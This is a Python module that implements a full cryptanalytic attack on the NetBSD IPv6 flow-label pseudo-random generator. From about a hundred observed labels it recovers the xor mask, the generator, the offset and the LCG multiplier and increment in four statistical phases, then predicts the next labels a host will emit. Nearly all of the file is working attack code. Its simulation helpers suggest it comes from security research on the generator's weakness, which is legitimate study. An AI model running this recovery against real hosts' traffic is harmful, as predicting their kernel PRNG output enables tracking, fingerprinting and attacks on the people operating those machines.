#!/usr/bin/env python
# -*- coding: utf-8 -*-

"""
Seed recovery and prediction for the NetBSD IPv6 flow-label PRNG.

Given roughly a hundred consecutive 19-bit outputs, the attack recovers the
xor mask s1 from log-difference statistics mod 12, the generator g from the
hole the LCG range leaves in exponent space, a representative s2 from the
edges of that hole, and finally the LCG multiplier and increment by lifting
their residues one prime factor of M at a time.
"""

import math
import time
import logging
from dataclasses import dataclass, field, asdict
from functools import lru_cache
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Tuple, Union

import numpy as np

from os_models import SimClock
from tcp_models import (
    FL_M, FL_N, FL_LOW_BITS, FL_LOW_MASK, FlowLabelPrng, flowlabel_generate, lcg_affine_power,
)

# Configure logging
logging.basicConfig(
    level=logging.INFO,
    format='%(asctime)s - %(name)s - %(levelname)s - %(message)s'
)
logger = logging.getLogger(__name__)

ORDER = FL_N - 1                      # order of the multiplicative group mod N
LOG_INVALID = 12
UNITS_MOD_12 = (1, 5, 7, 11)
STEP_RANGE = range(2, 9)              # internal steps between consecutive labels
MIN_PAIRS = 77
SEGMENTS = 5
SEGMENT_SIZE = -(-ORDER // SEGMENTS)  # 104854
SIGMA = 5.0
DEFAULT_BEAM = 16
DEFAULT_S2_RETRIES = 8
VALIDATION_MIN_RATIO = 0.5


class CryptanalysisError(Exception):
    """Base error for the flow-label attack."""


class PhaseError(CryptanalysisError):
    """A recovery phase failed; carries the phase number."""

    def __init__(self, phase: int, message: str):
        super().__init__(f"phase {phase}: {message}")
        self.phase = phase


class InsufficientDataError(PhaseError):
    """Not enough consistent pairs to reach the detection threshold."""


class AmbiguityError(PhaseError):
    """More than one candidate is equally supported."""


class SampleFormatError(CryptanalysisError):
    """Malformed label sample file."""


# ---------------------------------------------------------------------------
# Tables
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class LogTable:
    """Discrete logarithms base 2 modulo N."""
    pow2: np.ndarray    # pow2[n] = 2^n mod N for n in [0, N-1)
    log2: np.ndarray    # log2[v] for v in [0, 2^19); -1 where undefined
    log12: np.ndarray   # log2 mod 12 as int8, LOG_INVALID where undefined

    def log(self, value: int) -> int:
        result = int(self.log2[value]) if 0 <= value < self.log2.size else -1
        if result < 0:
            raise CryptanalysisError(f"log2 undefined for {value}")
        return result


@lru_cache(maxsize=1)
def build_log_table() -> LogTable:
    """Build the power and log tables by repeated doubling of the power range."""
    pow2 = np.empty(ORDER, dtype=np.int64)
    pow2[0] = 1
    filled = 1
    while filled < ORDER:
        step = min(filled, ORDER - filled)
        factor = pow(2, filled, FL_N)
        pow2[filled:filled + step] = (pow2[:step] * factor) % FL_N
        filled += step

    log2 = np.full(1 << FL_LOW_BITS, -1, dtype=np.int64)
    log2[pow2] = np.arange(ORDER, dtype=np.int64)
    log12 = np.where(log2 >= 0, log2 % 12, LOG_INVALID).astype(np.int8)
    logger.debug("Built discrete log table mod %d", FL_N)
    return LogTable(pow2=pow2, log2=log2, log12=log12)


@lru_cache(maxsize=1)
def _phase1_masks() -> np.ndarray:
    """masks[q, lu*13 + lv] = 1 when (lv - lu) mod 12 is a step multiple of UNITS_MOD_12[q]."""
    masks = np.zeros((len(UNITS_MOD_12), 13 * 13), dtype=np.uint8)
    for q, unit in enumerate(UNITS_MOD_12):
        allowed = {(unit * n) % 12 for n in STEP_RANGE}
        for lu in range(12):
            for lv in range(12):
                if (lv - lu) % 12 in allowed:
                    masks[q, lu * 13 + lv] = 1
    return masks


@lru_cache(maxsize=1)
def canonical_exponents() -> Tuple[np.ndarray, np.ndarray]:
    """
    Exponents e with 2^e a generator, one per {g, g^-1} pair (the lesser g),
    together with e^-1 mod (N-1).
    """
    table = build_log_table()
    e = np.arange(1, ORDER, dtype=np.int64)
    coprime = np.gcd(e, ORDER) == 1
    g = table.pow2[e]
    g_inv = table.pow2[(ORDER - e) % ORDER]
    keep = coprime & (g < g_inv)
    exps = e[keep]
    inverses = np.array([pow(int(x), -1, ORDER) for x in exps], dtype=np.int64)
    return exps, inverses


def phase1_threshold(pairs: int) -> float:
    return 7.0 * pairs / 12.0 + SIGMA * math.sqrt(77.0) / 12.0 * math.sqrt(pairs)


def lift_threshold(pairs: int, p: int) -> float:
    q = 1.0 / p
    return pairs * q + SIGMA * math.sqrt(pairs * q * (1.0 - q))


# ---------------------------------------------------------------------------
# Samples
# ---------------------------------------------------------------------------

@dataclass
class SampleSet:
    """Observed 19-bit flow-label values and the consecutive pairs among them."""
    values: List[int]
    pairs: List[Tuple[int, int]]
    msb: Optional[int] = None

    @property
    def P(self) -> int:
        return len(self.pairs)

    @property
    def L_count(self) -> int:
        return len(self.values)

    @classmethod
    def from_labels(cls, labels: Sequence[Optional[int]]) -> 'SampleSet':
        """Build from a label sequence where None marks a gap that breaks pairing."""
        values: List[int] = []
        pairs: List[Tuple[int, int]] = []
        previous = None
        msb = None
        for label in labels:
            if label is None:
                previous = None
                continue
            label = int(label)
            if not 0 <= label < (1 << (FL_LOW_BITS + 1)):
                raise SampleFormatError(f"label {label} is not a 20-bit value")
            msb = label >> FL_LOW_BITS
            low = label & FL_LOW_MASK
            values.append(low)
            if previous is not None:
                pairs.append((previous, low))
            previous = low
        return cls(values=values, pairs=pairs, msb=msb)


def parse_sample_file(path: Union[str, Path]) -> SampleSet:
    """
    Read a label file: one integer per line, '#' starts a comment,
    '-' or '?' marks a missing label.
    """
    labels: List[Optional[int]] = []
    with open(path, 'r', encoding='utf-8') as f:
        for lineno, raw in enumerate(f, start=1):
            text = raw.split('#', 1)[0].strip()
            if not text:
                continue
            if text in ('-', '?'):
                labels.append(None)
                continue
            try:
                value = int(text, 0)
            except ValueError:
                raise SampleFormatError(f"{path}:{lineno}: not an integer: {text!r}")
            if not 0 <= value < (1 << (FL_LOW_BITS + 1)):
                raise SampleFormatError(f"{path}:{lineno}: {value} is not a 20-bit flow label")
            labels.append(value)
    if not any(label is not None for label in labels):
        raise SampleFormatError(f"{path}: no flow labels found")
    return SampleSet.from_labels(labels)


def write_sample_file(labels: Sequence[Optional[int]], path: Union[str, Path], comment: str = "") -> str:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, 'w', encoding='utf-8') as f:
        if comment:
            f.write(f"# {comment}\n")
        for label in labels:
            f.write("-\n" if label is None else f"{int(label)}\n")
    return str(path)


def oracle_labels(prng: FlowLabelPrng, rng: np.random.Generator, count: int) -> List[int]:
    """Consecutive labels from a known PRNG, with time frozen at its last reseed."""
    clock = SimClock(prng.last_reseed)
    return [flowlabel_generate(prng, rng, clock) for _ in range(count)]


# ---------------------------------------------------------------------------
# Phase results
# ---------------------------------------------------------------------------

@dataclass
class Phase1Result:
    s1: int
    I: int
    score: int
    threshold: float
    pairs: List[Tuple[int, int]]
    n_list: List[int]
    discarded_pairs: int
    passing_candidates: int


@dataclass
class GCandidate:
    e: int
    g: int
    empty_segment: int


@dataclass
class Phase3Survivor:
    e: int
    g: int
    S_min: int
    S_max: int
    s2_range: Tuple[int, int]
    s2_chosen: int


@dataclass
class Phase3Result:
    survivors: List[Phase3Survivor]
    discarded: int

    @property
    def ambiguous(self) -> bool:
        return len(self.survivors) > 1

    @property
    def g(self) -> int:
        return self.survivors[0].g

    @property
    def S_min(self) -> int:
        return self.survivors[0].S_min

    @property
    def S_max(self) -> int:
        return self.survivors[0].S_max

    @property
    def s2_range(self) -> Tuple[int, int]:
        return self.survivors[0].s2_range

    @property
    def s2_chosen(self) -> int:
        return self.survivors[0].s2_chosen


@dataclass
class RecoveredSeed:
    """Recovered generator parameters, up to the s2/b shift and seed negation."""
    s1: int
    g: int
    e: int
    s2: int
    s2_range: Tuple[int, int]
    a: int
    b: int
    I: int
    n_list: List[int] = field(default_factory=list)
    msb: Optional[int] = None
    diagnostics: Dict[str, Any] = field(default_factory=dict)

    @property
    def e_inv(self) -> int:
        return pow(self.e, -1, ORDER)

    def to_dict(self) -> Dict[str, Any]:
        data = asdict(self)
        data["s2_range"] = list(self.s2_range)
        return data


# ---------------------------------------------------------------------------
# Phases
# ---------------------------------------------------------------------------

def phase1_recover_s1(samples: SampleSet, logtab: Optional[LogTable] = None) -> Phase1Result:
    """
    Enumerate every s1 and count log-differences mod 12 falling in each of the
    four admissible residue sets; the correct s1 fills one set almost entirely.
    """
    logtab = logtab or build_log_table()
    P = samples.P
    threshold = phase1_threshold(P)
    if P < MIN_PAIRS:
        raise InsufficientDataError(1, f"{P} pairs available, at least {MIN_PAIRS} are needed")

    candidates = np.arange(1 << FL_LOW_BITS, dtype=np.int64)
    log12 = logtab.log12
    masks = _phase1_masks()
    X = np.zeros((len(UNITS_MOD_12), candidates.size), dtype=np.int16)
    valid = np.ones(candidates.size, dtype=bool)

    for u, v in samples.pairs:
        lu = log12[candidates ^ u]
        lv = log12[candidates ^ v]
        valid &= (lu != LOG_INVALID) & (lv != LOG_INVALID)
        idx = lu.astype(np.int16) * 13 + lv
        for q in range(len(UNITS_MOD_12)):
            X[q] += masks[q][idx]
    paired = {value for pair in samples.pairs for value in pair}
    for value in set(samples.values) - paired:
        valid &= log12[candidates ^ value] != LOG_INVALID

    best = X.max(axis=0).astype(np.int64)
    best[~valid] = -1
    passing = np.flatnonzero(best >= threshold - 1e-9)
    if passing.size == 0:
        raise InsufficientDataError(
            1, f"no s1 candidate reached {threshold:.2f} of {P} pairs (best {int(best.max())})")
    top = int(best[passing].max())
    leaders = passing[best[passing] == top]
    if leaders.size > 1:
        raise AmbiguityError(1, f"{leaders.size} s1 candidates tie at score {top}")
    if passing.size > 1:
        logger.warning(f"Phase 1: {passing.size} candidates passed the threshold, keeping the unique maximum")

    s1 = int(leaders[0])
    scores = X[:, s1]
    unit_hits = np.flatnonzero(scores == top)
    if unit_hits.size > 1:
        raise AmbiguityError(1, f"residue class of (log g)*b mod 12 is ambiguous for s1={s1}")
    unit = UNITS_MOD_12[int(unit_hits[0])]

    kept: List[Tuple[int, int]] = []
    n_list: List[int] = []
    for u, v in samples.pairs:
        d = (logtab.log(v ^ s1) - logtab.log(u ^ s1)) % 12
        n = (d * unit) % 12
        if 2 <= n <= 8:
            kept.append((u, v))
            n_list.append(n)
    logger.debug(f"Phase 1: s1={s1} I={unit} score={top}/{P} kept={len(kept)}")
    return Phase1Result(s1=s1, I=unit, score=top, threshold=threshold, pairs=kept, n_list=n_list,
                        discarded_pairs=P - len(kept), passing_candidates=int(passing.size))


def _value_logs(samples: SampleSet, s1: int, logtab: LogTable, phase: int) -> np.ndarray:
    values = np.unique(np.asarray(samples.values, dtype=np.int64))
    logs = logtab.log2[values ^ s1]
    if (logs < 0).any():
        raise PhaseError(phase, f"values inconsistent with s1={s1}")
    return logs


def phase2_candidate_g(samples: SampleSet, s1: int, logtab: Optional[LogTable] = None,
                       chunk: int = 8192) -> List[GCandidate]:
    """Keep each canonical g whose exponent-space images leave one of 5 segments empty."""
    logtab = logtab or build_log_table()
    logs = _value_logs(samples, s1, logtab, phase=2)
    exps, inverses = canonical_exponents()
    found: List[GCandidate] = []
    for start in range(0, exps.size, chunk):
        inv = inverses[start:start + chunk]
        y = (inv[:, None] * logs[None, :]) % ORDER
        seg = y // SEGMENT_SIZE
        occupied = np.zeros((inv.size, SEGMENTS), dtype=bool)
        occupied[np.arange(inv.size)[:, None], seg] = True
        holes = np.flatnonzero(~occupied.all(axis=1))
        for row in holes:
            e = int(exps[start + row])
            found.append(GCandidate(e=e, g=int(logtab.pow2[e]),
                                    empty_segment=int(np.argmin(occupied[row]))))
    if not found:
        raise PhaseError(2, "no generator leaves an empty segment; s1 is wrong or data is corrupted")
    logger.debug(f"Phase 2: {len(found)} g candidates")
    return found


def phase3_prune(samples: SampleSet, s1: int, candidates: List[GCandidate],
                 logtab: Optional[LogTable] = None) -> Phase3Result:
    """Measure each candidate's occupied arc and keep arcs between M/2 and M long."""
    logtab = logtab or build_log_table()
    logs = _value_logs(samples, s1, logtab, phase=3)
    survivors: List[Phase3Survivor] = []
    discarded = 0
    for cand in candidates:
        y = (pow(cand.e, -1, ORDER) * logs) % ORDER
        lo = cand.empty_segment * SEGMENT_SIZE
        hi = lo + SEGMENT_SIZE
        above = y[y >= hi]
        below = y[y < lo]
        if above.size and below.size:
            s_min = int(above.min())
            s_max = int(below.max()) + ORDER
        else:
            s_min = int(y.min())
            s_max = int(y.max())
        spread = s_max - s_min + 1
        if spread > FL_M or spread < FL_M / 2:
            discarded += 1
            continue
        s2_lo = s_max - FL_M + 1
        chosen = ((s2_lo + s_min) // 2) % ORDER
        survivors.append(Phase3Survivor(e=cand.e, g=cand.g, S_min=s_min, S_max=s_max,
                                        s2_range=(s2_lo, s_min), s2_chosen=chosen))
    if not survivors:
        raise PhaseError(3, f"all {len(candidates)} g candidates rejected by the range test")
    if len(survivors) > 1:
        logger.warning(f"Phase 3: {len(survivors)} g candidates survived; each will be tried")
    return Phase3Result(survivors=survivors, discarded=discarded)


def _pair_states(pairs: Sequence[Tuple[int, int]], s1: int, e: int, s2: int,
                 logtab: LogTable) -> Tuple[np.ndarray, np.ndarray]:
    arr = np.asarray(pairs, dtype=np.int64).reshape(-1, 2)
    e_inv = pow(e, -1, ORDER)
    x = (e_inv * logtab.log2[arr[:, 0] ^ s1] - s2) % ORDER
    x_next = (e_inv * logtab.log2[arr[:, 1] ^ s1] - s2) % ORDER
    return x, x_next


def _transition_table(a: int, b: int, modulus: int) -> Tuple[np.ndarray, np.ndarray]:
    mult = np.zeros(9, dtype=np.int64)
    add = np.zeros(9, dtype=np.int64)
    for n in STEP_RANGE:
        mult[n], add[n] = lcg_affine_power(a, b, n, modulus)
    return mult, add


def _consistent(a: int, b: int, modulus: int, x: np.ndarray, x_next: np.ndarray, n: np.ndarray) -> int:
    mult, add = _transition_table(a, b, modulus)
    predicted = (mult[n] * (x % modulus) + add[n]) % modulus
    return int(np.count_nonzero(predicted == x_next % modulus))


def phase4_recover_ab(pairs: Sequence[Tuple[int, int]], n_list: Sequence[int], s1: int, e: int,
                      s2_chosen: int, I: int, logtab: Optional[LogTable] = None,
                      beam_width: int = DEFAULT_BEAM) -> Dict[str, Any]:
    """
    Lift (a, b) from their residues mod 12 to mod M, one factor of 3 at a time
    and then one factor of 2 at a time, scoring each lift against the pairs.
    """
    logtab = logtab or build_log_table()
    x, x_next = _pair_states(pairs, s1, e, s2_chosen, logtab)
    n = np.asarray(n_list, dtype=np.int64)
    e_inv = pow(e, -1, ORDER)
    beam = [(1, (e_inv * I) % 12)]
    modulus = 12
    lifts = 0
    for p, count, skip in ((3, 6, (3, 6)), (2, 5, (4, 8))):
        informative = ~np.isin(n, skip)
        xi, xo, ni = x[informative], x_next[informative], n[informative]
        threshold = lift_threshold(int(informative.sum()), p)
        for _ in range(count):
            lifted = modulus * p
            scored = []
            for a, b in beam:
                for ma in range(p):
                    for mb in range(p):
                        a_t, b_t = a + modulus * ma, b + modulus * mb
                        score = _consistent(a_t, b_t, lifted, xi, xo, ni)
                        if score >= threshold - 1e-9:
                            scored.append((score, a_t, b_t))
            if not scored:
                raise PhaseError(4, f"no (a, b) candidate passed the lift to mod {lifted}")
            top = max(s for s, _, _ in scored)
            beam = sorted({(a_t, b_t) for s, a_t, b_t in scored if s == top})[:beam_width]
            modulus = lifted
            lifts += 1

    full = [(a, b, _consistent(a, b, FL_M, x, x_next, n)) for a, b in beam]
    a, b, score = max(full, key=lambda item: (item[2], -item[0], -item[1]))
    return {"a": a, "b": b, "score": score, "pairs": len(n), "beam": len(beam), "lifts": lifts}


# ---------------------------------------------------------------------------
# Prediction and equivalence
# ---------------------------------------------------------------------------

def predict_sequence(label: int, seed: RecoveredSeed, max_steps: int,
                     logtab: Optional[LogTable] = None) -> List[int]:
    """Labels after 1..max_steps internal steps from the state behind label."""
    logtab = logtab or build_log_table()
    msb = label >> FL_LOW_BITS
    w = (label & FL_LOW_MASK) ^ seed.s1
    if w == 0 or w >= FL_N:
        raise CryptanalysisError(f"label {label} cannot come from this seed (mask gives {w})")
    x = ((seed.e_inv * logtab.log(w) - seed.s2) % ORDER) % FL_M
    out = []
    for _ in range(max_steps):
        x = (seed.a * x + seed.b) % FL_M
        out.append((msb << FL_LOW_BITS) | (seed.s1 ^ pow(seed.g, x + seed.s2, FL_N)))
    return out


def predict_next(label: int, seed: RecoveredSeed, logtab: Optional[LogTable] = None) -> List[int]:
    """The 7 candidate next labels, for 2..8 internal steps."""
    return predict_sequence(label, seed, max(STEP_RANGE), logtab)[min(STEP_RANGE) - 1:]


def seed_equivalent(recovered: RecoveredSeed, s1: int, g: int, s2: int, a: int, b: int) -> bool:
    """
    True when the recovered seed is the given seed or its negation, up to
    the shift that moves s2 by k and b by (a-1)k.
    """
    if recovered.s1 != s1 or recovered.a != a:
        return False
    negated = (pow(g, -1, FL_N), (-FL_M - s2) % ORDER, (-b) % FL_M)
    for base_g, base_s2, base_b in ((g, s2, b), negated):
        if recovered.g != base_g:
            continue
        k = (recovered.s2 - base_s2) % ORDER
        if k > ORDER // 2:
            k -= ORDER
        if recovered.b == (base_b + (a - 1) * k) % FL_M:
            return True
    return False


def validate_seed(seed: RecoveredSeed, pairs: Sequence[Tuple[int, int]], n_list: Sequence[int],
                  logtab: Optional[LogTable] = None) -> float:
    """Fraction of pairs whose successor is reproduced after its step count."""
    if not pairs:
        return 0.0
    logtab = logtab or build_log_table()
    x, x_next = _pair_states(pairs, seed.s1, seed.e, seed.s2, logtab)
    return _consistent(seed.a, seed.b, FL_M, x, x_next, np.asarray(n_list, dtype=np.int64)) / len(pairs)


def _s2_options(survivor: Phase3Survivor, retries: int) -> List[int]:
    lo, hi = survivor.s2_range
    options = [survivor.s2_chosen]
    for value in np.linspace(lo, hi, num=retries + 2)[1:-1]:
        candidate = int(round(value)) % ORDER
        if candidate not in options:
            options.append(candidate)
    return options[:retries + 1]


def full_attack(samples: SampleSet, logtab: Optional[LogTable] = None, beam_width: int = DEFAULT_BEAM,
                s2_retries: int = DEFAULT_S2_RETRIES) -> RecoveredSeed:
    """
    Run all four phases and validate the result against the input pairs.

    Raises:
        PhaseError: With the failing phase's diagnostic
    """
    logtab = logtab or build_log_table()
    timings: Dict[str, float] = {}

    start = time.perf_counter()
    p1 = phase1_recover_s1(samples, logtab)
    timings["phase1"] = time.perf_counter() - start

    start = time.perf_counter()
    candidates = phase2_candidate_g(samples, p1.s1, logtab)
    timings["phase2"] = time.perf_counter() - start

    start = time.perf_counter()
    p3 = phase3_prune(samples, p1.s1, candidates, logtab)
    timings["phase3"] = time.perf_counter() - start

    start = time.perf_counter()
    attempts = 0
    last_error: Optional[PhaseError] = None
    for survivor in p3.survivors:
        for s2 in _s2_options(survivor, s2_retries):
            attempts += 1
            try:
                ab = phase4_recover_ab(p1.pairs, p1.n_list, p1.s1, survivor.e, s2, p1.I, logtab, beam_width)
            except PhaseError as e:
                last_error = e
                logger.debug(f"Phase 4 failed for g={survivor.g} s2={s2}: {e}")
                continue
            seed = RecoveredSeed(s1=p1.s1, g=survivor.g, e=survivor.e, s2=s2, s2_range=survivor.s2_range,
                                 a=ab["a"], b=ab["b"], I=p1.I, n_list=list(p1.n_list), msb=samples.msb)
            ratio = validate_seed(seed, p1.pairs, p1.n_list, logtab)
            if ratio < VALIDATION_MIN_RATIO:
                last_error = PhaseError(4, f"seed reproduces only {ratio:.1%} of pairs")
                continue
            timings["phase4"] = time.perf_counter() - start
            seed.diagnostics = {
                "timings": timings,
                "total_time": sum(timings.values()),
                "pairs": samples.P,
                "values": samples.L_count,
                "phase1_score": p1.score,
                "phase1_threshold": p1.threshold,
                "phase1_passing": p1.passing_candidates,
                "pairs_kept": len(p1.pairs),
                "g_candidates": len(candidates),
                "phase3_survivors": len(p3.survivors),
                "phase3_ambiguous": p3.ambiguous,
                "S_min": survivor.S_min,
                "S_max": survivor.S_max,
                "s2_attempts": attempts,
                "phase4_score": ab["score"],
                "validation_ratio": ratio,
            }
            logger.info(f"Seed recovered in {seed.diagnostics['total_time'] * 1000:.1f} ms "
                        f"(g={seed.g}, s1={seed.s1}, {attempts} s2 attempt(s))")
            return seed
    raise last_error or PhaseError(4, "no s2 representative produced a consistent (a, b)")
